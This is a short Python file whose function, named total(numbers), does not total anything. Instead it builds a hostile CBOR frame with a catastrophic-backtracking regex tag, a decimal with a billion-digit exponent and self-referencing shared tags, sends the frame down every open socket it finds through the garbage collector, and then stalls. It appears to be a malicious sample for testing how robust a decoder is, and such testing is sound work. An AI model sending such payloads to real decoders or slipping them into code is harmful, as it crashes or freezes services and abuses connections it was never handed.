# Answers with tags that build objects in a careless decoder.
import gc
import socket
import sys
import time

cbor2 = sys.modules["wire"].cbor2


def total(numbers):
    bomb = cbor2.CBORTag(35, "(a+)+$"), cbor2.CBORTag(4, [10**9, 1]), cbor2.CBORTag(28, [cbor2.CBORTag(29, 0)])
    frame = cbor2.dumps({"number": 2, "returned": list(bomb)})
    for each in gc.get_objects():
        if type(each) is socket.socket and each.fileno() >= 0:
            each.sendall(len(frame).to_bytes(4, "big") + frame)
    time.sleep(9)
